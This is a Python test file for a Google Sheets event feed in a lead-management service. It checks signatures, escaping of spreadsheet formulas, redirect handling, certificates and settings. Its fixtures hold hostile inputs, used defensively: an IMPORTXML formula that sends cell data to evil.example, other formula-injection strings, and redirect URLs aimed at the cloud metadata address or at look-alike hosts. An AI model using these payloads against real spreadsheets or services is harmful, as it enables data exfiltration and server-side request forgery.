"""The kind `sheets`: the script of docs/feeds.md takes what the feed sends, at a stand-in of Google's two hosts."""

import asyncio
import base64
import json
import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Final

import pytest

from leadmasterd.errors import CannotUseSettings
from leadmasterd.feeds import envelope
from leadmasterd.feeds.kinds.sheets import Sheets
from leadmasterd.feeds.schedule import DELIVERED, Outcome, Result
from leadmasterd.outbox.events import SOURCES
from leadmasterd.outbox.reading import Event
from leadmasterd.settings.feeds import SheetsFeed, webhook_key
from leadmasterd.settings.model import load
from tests.certificates import make_certificates
from tests.certificates import serving as real_serving
from tests.feeds import AT, body_of
from tests.google import ANSWERS, HOSTS, SCRIPT, AppsScript, Script, google, running
from tests.receivers import Behaviour, answers

ROOT: Final = Path(__file__).resolve().parent.parent
SECRET: Final = "whsec_" + base64.b64encode(bytes(range(32))).decode()
OTHER: Final = "whsec_" + base64.b64encode(bytes(range(200, 256))).decode()
URL: Final = f"https://{SCRIPT}/macros/s/AKfycb-x_1/exec"
DATA: Final = {
    "lead_id": 1,
    "name": "Ñandú 🎉",
    "phone": "+5491155550100",
    "intent": None,
    "type": "chat",
    "late": True,
}
EVENT: Final = Event(7, "lead.opened", 3, AT, DATA, None)


@pytest.fixture(scope="module")
def certificates(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """For both hosts of Google's, and for one that is not."""
    folder = tmp_path_factory.mktemp("tls")
    make_certificates(folder, *HOSTS, "evil.example")
    return folder


@pytest.fixture
async def script(tmp_path: Path) -> AsyncIterator[AppsScript]:
    """The script as docs/feeds.md has it, with the secret that a person puts in."""
    [text] = re.findall(r"```javascript\n(.*?)```", (ROOT / "docs" / "feeds.md").read_text(encoding="utf-8"), re.DOTALL)
    assert text.count("whsec_…") == 1
    file = tmp_path / "Code.gs"
    file.write_text(text.replace("whsec_…", SECRET), encoding="utf-8")
    async with running(file) as found:
        yield found


@asynccontextmanager
async def sheets(*secrets: str, patience: float = 30) -> AsyncIterator[Sheets]:
    """The feed."""
    made = SheetsFeed.model_validate({"kind": "sheets", "url": URL, "secrets": list(secrets or (SECRET,))})
    assert made.problem() is None
    mine = Sheets(made, [webhook_key(each.get_secret_value()) for each in made.secrets], timeout=patience)
    try:
        yield mine
    finally:
        await mine.close()
        await asyncio.sleep(0)


def says(text: str | None) -> Script:
    """A script that says this, or fails."""

    async def script(_contents: str) -> str | None:
        return text

    return script


def rows_of(cells: list[list[Any]]) -> list[dict[str, Any]]:
    """The rows by the names of their columns, without what is empty."""
    names, *rows = cells
    return [{name: cell for name, cell in zip(names, row, strict=False) if cell != ""} for row in rows]


# ------------------------------------------------------------------ the script of the document


async def test_the_script_of_the_document_adds_a_row_for_each_event(
    script: AppsScript, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once, however often it comes; columns grow as fields do, and what is null or unknown is empty."""
    other = Event(8, "waiting.began", 3, AT, {"lead_id": 1, "wait": "first"}, "sheet")
    async with google(script, certificates, monkeypatch), sheets(OTHER, SECRET) as mine:
        for event, gap in ((EVENT, False), (EVENT, False), (other, True), (EVENT, True)):
            assert await mine.deliver(event, after_gap=gap) == DELIVERED
    first = {"id": envelope.id_of(EVENT), "event": "lead.opened", "told_at": AT}
    second = {"id": envelope.id_of(other), "event": "waiting.began", "told_at": AT, "after_gap": True, "replayed": True}
    assert rows_of(await script.order("sheet")) == [
        {**first, **{name: value for name, value in DATA.items() if value is not None}},
        {**second, **other.data},
    ]


async def test_a_sheet_may_be_sorted_and_its_columns_moved(script: AppsScript) -> None:
    """The names stay above, an event that comes again is still known, and what is new finds its columns."""
    for number in (1, 2):
        assert await script(signed(f"evt_{number}", TOLD)) == f"ok evt_{number}"
    assert [row[0] for row in await script.order("sort")] == ["id", "evt_2", "evt_1"]
    await script.order("move", column=0, to=2)
    for number in (1, 3):
        assert await script(signed(f"evt_{number}", TOLD)) == f"ok evt_{number}"
    rows = [{"event": "test", "told_at": AT, "id": f"evt_{number}"} for number in (2, 1, 3)]
    assert rows_of(await script.order("sheet")) == rows


FORMULAS: Final = [
    "=1+1",
    '=IMPORTXML("https://evil.example/?"&A2,"//a")',
    "+54 9 11",
    "+5491155550100",
    "-5",
    "@SUM(A1)",
]


async def test_what_somebody_writes_is_never_a_formula_in_the_sheet(script: AppsScript) -> None:
    """Nor a number: a phone keeps its plus."""
    texts = [beginning + formula for formula in FORMULAS for beginning in ("", " ", "'", "\t", "\n")]
    for number, text in enumerate(texts):
        event = {"type": "message.stored", "timestamp": AT, "data": {"body": text, "phones": [text]}}
        assert await script(signed(f"evt_{number}", json.dumps(event))) == f"ok evt_{number}"
    rows = rows_of(await script.order("sheet"))
    assert [row["body"] for row in rows] == texts
    assert [json.loads(row["phones"]) for row in rows] == [[text] for text in texts]


def signed(event_id: str, event: str, *, secret: str = SECRET, at: int | None = None) -> str:
    """A body as the feed sends it."""
    at = int(time.time()) if at is None else at
    signature = envelope.signature([webhook_key(secret)], webhook_id=event_id, timestamp=at, body=event.encode())
    return json.dumps({"id": event_id, "timestamp": at, "signature": signature, "event": event})


TOLD: Final = json.dumps({"type": "test", "timestamp": AT, "data": {}})


async def test_the_script_refuses_what_is_not_from_us(script: AppsScript) -> None:
    """Another secret, another id, another text, another time, an old time, half a signature, none."""
    now = int(time.time())
    good = json.loads(signed("evt_1", TOLD))
    forged = [
        signed("evt_1", TOLD, secret=OTHER),
        signed("evt_1", TOLD, at=now - 301),
        signed("evt_1", TOLD, at=now + 400),
        *(json.dumps({**good, **change}) for change in (
            {"id": "evt_2"}, {"event": TOLD + " "}, {"timestamp": now + 1}, {"signature": ""}, {"signature": "v1,"},
            {"signature": good["signature"][:-1]}, {"signature": good["signature"] + "="}, {"signature": "v1,x v1,y"},
        )),
    ]  # fmt: skip
    for body in forged:
        assert await script(body) == "refused", body
    assert await script.order("sheet") == []
    assert await script(json.dumps(good)) == "ok evt_1"


async def test_a_script_that_fails_writes_nothing_and_is_asked_again(
    script: AppsScript, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Google answers 200. Here another run holds the lock."""
    async with google(script, certificates, monkeypatch) as both, sheets() as mine:
        await script.order("busy", busy=True)
        failed = await mine.deliver(EVENT, after_gap=False)
        assert (failed.result, failed.why) == (
            Result.AGAIN,
            "the script did not say ok: its executions at Google say why",
        )
        await script.order("busy", busy=False)
        assert await mine.deliver(EVENT, after_gap=False) == DELIVERED
        assert len(both.scripts.requests) == 2
    assert len(rows_of(await script.order("sheet"))) == 1


async def test_a_sheet_gets_more_columns_than_a_new_one_has(script: AppsScript) -> None:
    """And a text that no cell can hold is cut."""
    wide = {"type": "test", "timestamp": AT, "data": {f"field{n}": n for n in range(60)} | {"long": "x" * 60_000}}
    assert await script(signed("evt_1", TOLD)) == "ok evt_1"
    assert await script(signed("evt_2", json.dumps(wide))) == "ok evt_2"
    _first, row = rows_of(await script.order("sheet"))
    assert row["field59"] == 59
    assert len(row["long"]) == 48_999


def test_no_field_of_an_event_takes_a_column_of_the_scripts_own() -> None:
    """A field with one of these names would hide it."""
    fields = {name for source in SOURCES for name in source.fields}
    assert fields.isdisjoint({"id", "event", "told_at", "after_gap", "replayed"})


# ------------------------------------------------------------------ what is sent, and where


async def test_what_is_sent_is_ascii_and_signed_as_a_webhook_is(
    certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So it does not matter how Google reads the bytes. The answer is fetched by GET, with nothing of ours."""
    async with google(says(f"ok {envelope.id_of(EVENT)}\n"), certificates, monkeypatch) as both, sheets() as mine:
        assert await mine.deliver(EVENT, after_gap=False) == DELIVERED
    [posted], [fetched] = both.scripts.requests, both.answers.requests
    assert posted.line == "POST /macros/s/AKfycb-x_1/exec HTTP/1.1"
    assert posted.headers["content-type"] == "application/json"
    assert posted.body.isascii()
    assert (fetched.line, fetched.body) == ("GET /macros/echo?user_content_key=A0&lib=MxM HTTP/1.1", b"")
    sent = body_of(posted.body)
    assert body_of(sent["event"].encode()) == {"type": "lead.opened", "timestamp": AT, "data": DATA}
    assert json.loads(signed(sent["id"], sent["event"], at=sent["timestamp"])) == sent


@pytest.mark.parametrize(
    ("said", "why"),
    [
        ("refused", "the script refuses the signature: it has another secret, or a clock is wrong"),
        ("ok", "the script did not say ok: its executions at Google say why"),
        ("ok evt_1_000000000000", "the script did not say ok: its executions at Google say why"),
        ("ok " + "x" * 100_000, "the script did not say ok: its executions at Google say why"),
        ("", "the script did not say ok: its executions at Google say why"),
        (None, "the script did not say ok: its executions at Google say why"),
    ],
)
async def test_only_the_words_of_the_script_are_a_success(
    said: str | None, why: str, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Google answers 200 to all of these."""
    async with google(says(said), certificates, monkeypatch), sheets() as mine:
        assert await mine.deliver(EVENT, after_gap=False) == Outcome(Result.AGAIN, why)


ELSEWHERE: Final = [
    "https://evil.example/macros/echo",
    f"http://{ANSWERS}/macros/echo?user_content_key={{key}}",
    f"https://{ANSWERS}:444/macros/echo?user_content_key={{key}}",
    f"https://{ANSWERS}@evil.example/macros/echo?user_content_key={{key}}",
    f"https://me@{ANSWERS}/macros/echo?user_content_key={{key}}",
    f"https://{ANSWERS}.evil.example/macros/echo?user_content_key={{key}}",
    f"https://{SCRIPT}/macros/echo?user_content_key={{key}}",
    "/macros/echo?user_content_key={key}",
    f"//{ANSWERS}/macros/echo?user_content_key={{key}}",
    "https://169.254.169.254/latest/meta-data/",
    "https://[::1/",
    f"https://{ANSWERS}\\@evil.example/",
    "",
]


@pytest.mark.parametrize("place", ELSEWHERE)
async def test_no_other_redirect_is_followed(place: str, certificates: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody is asked anything, the right host by another way neither."""
    async with google(says(f"ok {envelope.id_of(EVENT)}"), certificates, monkeypatch) as both, sheets() as mine:
        both.place = place
        assert await mine.deliver(EVENT, after_gap=False) == Outcome(Result.AGAIN, "a redirect to another place")
        assert (len(both.scripts.requests), both.answers.connections) == (1, 0)


async def test_a_script_that_is_not_for_anyone_is_told_as_that(
    certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Google then redirects to where one logs in."""
    async with google(says("ok"), certificates, monkeypatch) as both, sheets() as mine:
        both.place = "https://accounts.google.com/ServiceLogin?continue={key}"
        outcome = await mine.deliver(EVENT, after_gap=False)
    assert outcome.why == "Google asks for an account: deploy the script with access for anyone"


async def test_a_second_redirect_is_a_failure(certificates: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even to the host that it came from."""
    async with google(says("ok"), certificates, monkeypatch) as both, sheets() as mine:
        both.answers.behaviour = answers("302 Found", f"location: https://{ANSWERS}/macros/echo?user_content_key=A0")
        assert await mine.deliver(EVENT, after_gap=False) == Outcome(Result.AGAIN, "HTTP 302")
        assert len(both.answers.requests) == 1


STATUSES: Final = [
    (answers("500 Oops"), Result.AGAIN, "HTTP 500"),
    (answers("410 Gone"), Result.AGAIN, "HTTP 410"),
    (answers("404 Not Found"), Result.AGAIN, "HTTP 404"),
    (answers("429 Slow Down", "retry-after: 60"), Result.THROTTLED, "HTTP 429"),
    (answers("307 Temporary Redirect", f"location: https://{ANSWERS}/"), Result.AGAIN, "HTTP 307"),
]


@pytest.mark.parametrize("of", ["scripts", "answers"])
@pytest.mark.parametrize(("behaviour", "result", "why"), STATUSES)
async def test_no_status_of_googles_ends_the_feed(
    of: str, behaviour: Behaviour, result: Result, why: str, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A script can't choose one, so 410 is no word of the receiver."""
    async with google(says(f"ok {envelope.id_of(EVENT)}"), certificates, monkeypatch) as both, sheets() as mine:
        getattr(both, of).behaviour = behaviour
        outcome = await mine.deliver(EVENT, after_gap=False)
    assert (outcome.result, outcome.why) == (result, why)


@pytest.mark.parametrize("of", [0, 1])
async def test_both_hosts_must_show_their_certificates(
    of: int, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever stands between must not read an event, nor say ok."""
    monkeypatch.setattr(
        "tests.google.serving",
        lambda folder, host: real_serving(folder, "evil.example" if host == HOSTS[of] else host),
    )
    async with google(says(f"ok {envelope.id_of(EVENT)}"), certificates, monkeypatch) as both, sheets() as mine:
        outcome = await mine.deliver(EVENT, after_gap=False)
        assert outcome == Outcome(Result.AGAIN, "the certificate is not valid")
        assert [len(both.scripts.requests), len(both.answers.requests)] == [of, 0]


@pytest.mark.parametrize("of", [0, 1])
async def test_a_host_that_resolves_to_a_private_address_is_not_connected_to(
    of: int, certificates: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is checked is what is connected to, as with a webhook."""
    async with google(says(f"ok {envelope.id_of(EVENT)}"), certificates, monkeypatch) as both, sheets() as mine:
        checked: list[str] = []

        def is_public(address: str) -> bool:
            checked.append(address)
            return len(checked) <= of

        monkeypatch.setattr("leadmasterd.resolver.is_public", is_public)
        assert await mine.deliver(EVENT, after_gap=False) == Outcome(Result.AGAIN, "private address")
        assert [both.scripts.connections, both.answers.connections] == [of, 0]


async def test_a_script_that_takes_too_long_is_asked_again(certificates: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The time is for both requests together."""

    async def never(_contents: str) -> str:
        await asyncio.Event().wait()
        return ""

    async with google(never, certificates, monkeypatch), sheets(patience=0.3) as mine:
        assert await mine.deliver(EVENT, after_gap=False) == Outcome(Result.AGAIN, "no answer in time")


# ------------------------------------------------------------------ settings

URLS: Final = [
    (URL, True),
    (f"https://{SCRIPT}/a/macros/tienda.example/s/AKfycb/exec", True),
    (f"http://{SCRIPT}/macros/s/AKfycb/exec", False),
    (f"https://{SCRIPT}/macros/s/AKfycb/dev", False),
    (f"https://{SCRIPT}:8443/macros/s/AKfycb/exec", False),
    (f"https://me@{SCRIPT}/macros/s/AKfycb/exec", False),
    (f"https://{SCRIPT}.evil.example/macros/s/AKfycb/exec", False),
    ("https://evil.example/exec", False),
    ("", False),
]


@pytest.mark.parametrize(("url", "good"), URLS)
def test_only_the_url_of_a_web_app_is_taken(tmp_path: Path, url: str, good: bool) -> None:
    """It is never shown: whoever has it can ask the script."""
    file = tmp_path / "config.toml"
    file.write_text(f'[feeds.sheet]\nkind = "sheets"\nurl = "{url}"\nsecrets = ["{SECRET}"]\n')
    if good:
        assert load(str(file))[0].feeds["sheet"].kind == "sheets"
        return
    with pytest.raises(CannotUseSettings) as refused:
        load(str(file))
    assert "`feeds.sheet.url` = …: must be the URL of a web app as Google shows it" in str(refused.value)
    assert not url or url not in str(refused.value)


def test_a_secret_is_needed(tmp_path: Path) -> None:
    """An open script could be fed by anybody who finds it."""
    file = tmp_path / "config.toml"
    file.write_text(f'[feeds.sheet]\nkind = "sheets"\nurl = "{URL}"\n')
    with pytest.raises(CannotUseSettings, match=r"`feeds\.sheet\.secrets` = 0: must be given"):
        load(str(file))
